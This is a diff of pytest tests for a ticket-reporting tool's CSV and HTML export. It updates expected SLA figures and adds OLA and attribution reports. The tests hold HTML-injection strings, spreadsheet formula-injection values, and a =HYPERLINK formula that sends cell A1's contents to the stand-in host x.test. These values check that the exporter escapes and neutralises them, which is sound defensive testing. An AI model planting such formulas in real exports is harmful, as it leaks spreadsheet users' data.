@@ -80,7 +80,7 @@ def test_sla_csv_is_the_rows_table_with_the_same_numbers():
     assert report["breaches"] and "late_seconds" not in text
     row = next(r for r in parsed if r["metric"] == "first_response" and r["severity"] == "P1"
                and r["policy"] == "standard")
-    assert (row["met"], row["breached"], row["attainment_pct"]) == ("2", "1", "66.67")
+    assert (row["met"], row["breached"], row["attainment_pct"]) == ("3", "1", "75.0")  # 1008: met in 30m of 1h
 
 
 def test_sla_csv_follows_period_and_grouping():
@@ -128,7 +128,7 @@ def test_audit_csv_has_one_table_per_section():
     report = _report("audit")
     tables = _sections(render_csv(report))
     assert list(tables) == ["confusion", "top_share_by_period", "top_share_by_org", "top_share_by_group",
-                            "top_share_by_agent", "rules", "findings"]
+                            "top_share_by_agent", "rules", "findings", "bounced"]
     _assert_rows(tables["confusion"], report["confusion"]["rows"])
     assert list(tables["confusion"][0]) == ["declared", "P1", "P2", "P3", "P4", "total"]
     _assert_rows(tables["top_share_by_period"], report["top_share"]["by_period"])
@@ -137,7 +137,7 @@ def test_audit_csv_has_one_table_per_section():
     # tickets nobody is assigned to are named, not an empty agent cell (the JSON keeps null)
     by_agent = report["top_share"]["by_agent"]
     assert by_agent[0]["agent"] is None
-    assert [r["agent"] for r in tables["top_share_by_agent"]] == ["(unassigned)", "agent-9", "agent-7"]
+    assert [r["agent"] for r in tables["top_share_by_agent"]] == ["(unassigned)", "agent-7", "agent-9"]
     _assert_rows(tables["top_share_by_agent"][1:], by_agent[1:])
     _assert_rows(tables["rules"], report["rules"])
     # the example's tickets 1006 (P1 lowered 10 minutes before its first reply was due) and 1007 (pending
@@ -165,12 +165,14 @@ def test_findings_flatten_the_ticket_into_columns():
 def test_an_empty_report_has_headers_and_no_rows(name: str):
     report = _empty(name)
     text = render_csv(report)
-    if name in ("sla", "credits"):
+    first = {"sla": ["metric", "severity"], "credits": ["contract", "organizations"], "olas": ["agreement", "team"],
+             "attribution": ["period", "holder"]}
+    if name in first:   # one table
         header, *rows = csv.reader(io.StringIO(text))
-        assert rows == [] and header[:2] == (["metric", "severity"] if name == "sla" else ["contract", "organizations"])
+        assert rows == [] and header[:2] == first[name]
     else:
         tables = _sections(text)
-        sections = 6 if name == "kpis" else 7   # kpis: backlog … groups; audit: confusion … findings
+        sections = 6 if name == "kpis" else 8   # kpis: backlog … groups; audit: confusion … findings, bounced
         assert len(tables) == sections and text.count("# ") == sections
 
 
@@ -224,7 +226,7 @@ def test_html_tables_of_kpis_audit_and_credits():
     assert audit["table-confusion"]["headers"] == ["declared", "P1", "P2", "P3", "P4", "total"]
     assert [r[0] for r in audit["table-top_share_by_org"]["rows"]] == \
         [r["org"] for r in _report("audit")["top_share"]["by_org"]]
-    assert [r[0] for r in audit["table-top_share_by_agent"]["rows"]] == ["(unassigned)", "agent-9", "agent-7"]
+    assert [r[0] for r in audit["table-top_share_by_agent"]["rows"]] == ["(unassigned)", "agent-7", "agent-9"]
     credits = read_page(_page("credits")).tables
     assert {"table-rows", "table-credit-breaches", "table-credit-exclusions"} <= set(credits)
     # four instants become one column of local dates; the counts that repeat breached/excluded are left out
@@ -252,7 +254,9 @@ def _evil_events() -> list:
 @pytest.mark.parametrize("name", REPORTS)
 def test_html_escapes_text_from_customers(name: str):
     contract = {"name": "<i>evil</i>", "organizations": [EVIL], "credits": [{"below": "99%", "credit": "5%"}]}
-    config = helpers.config(contracts=[contract])
+    ola = {"name": "<b>ops</b> triage", "team": "<b>ops</b>", "when": {"group": ["<b>ops</b>"]},
+           "targets": {"P3": {"first_touch": "1m", "ownership": "1h"}}}
+    config = helpers.config(contracts=[contract], olas=[ola])
     options = ReportOptions(by=("org", "group", "metric")) if name == "sla" else ReportOptions()
     report = build_report(name, config, events=_evil_events(), now=helpers.utc("2026-03-04 12:00"), options=options)
     page = render_html(report)
@@ -307,7 +311,9 @@ def _formula_config():
         escalations=[{"name": "-esc", "when": {"metric": "first_response", "breached": True},
                       "actions": [{"add_tags": ["late"]}]}],
         contracts=[{"name": "=contract()", "organizations": [FORMULAS["org"], FORMULAS["org2"]],
-                    "credits": [{"below": "99%", "credit": "5%"}]}])
+                    "credits": [{"below": "99%", "credit": "5%"}]}],
+        olas=[{"name": "=ola()", "team": "+team", "when": {"group": [FORMULAS["group"]]},
+               "targets": {"P1": {"first_touch": "1h"}, "P3": {"first_touch": "1h"}}}])
 
 
 def _formula_events() -> list:
@@ -341,8 +347,8 @@ def test_csv_cells_never_start_a_formula_and_numbers_stay_numbers(name: str):
     text = render_csv(report)
     tables = _csv_tables(text)
     expected = [(rows, _columns(rows, fallback)) for _, rows, fallback in _tables(report)]
-    if name in ("sla", "credits"):
-        expected = expected[:1]   # the sla breach list is not part of the CSV
+    if name in ("sla", "credits", "olas", "attribution"):
+        expected = expected[:1]   # the first table alone (the sla breach list is not part of the CSV)
     assert len(tables) == len(expected)
     neutralized = 0
     for (header, *cells), (rows, columns) in zip(tables, expected, strict=True):
@@ -363,11 +369,12 @@ def test_csv_cells_never_start_a_formula_and_numbers_stay_numbers(name: str):
                 assert not cell.startswith(TRIGGERS), (column, cell)
     # every formula reached the CSV: sla 2 rows × (group, source, org) but "Acme;=1+2"; credits the contract and
     # its organizations; kpis 2 escalations and the group; audit org, group, agent, rule, 2 findings × 4 + org
-    assert neutralized == {"sla": 5, "credits": 2, "kpis": 3, "audit": 13}[name]
+    # olas: the agreement and team of 2 rows; attribution: the team that held the tickets
+    assert neutralized == {"sla": 5, "credits": 2, "kpis": 3, "audit": 13, "olas": 4, "attribution": 1}[name]
     # text is quoted, so a `;` inside a cell cannot start a new one in a spreadsheet that splits on it
     if name in ("sla", "audit"):
         assert '"Acme;=1+2"' in text
-    if name != "credits":   # quoted, the inner quotes doubled, the formula prefixed
+    if name not in ("credits", "olas", "attribution"):   # quoted, the inner quotes doubled, the formula prefixed
         assert "\"'=HYPERLINK(\"\"http://x.test/?\"\"&A1,\"\"help\"\")\"" in text
 
 
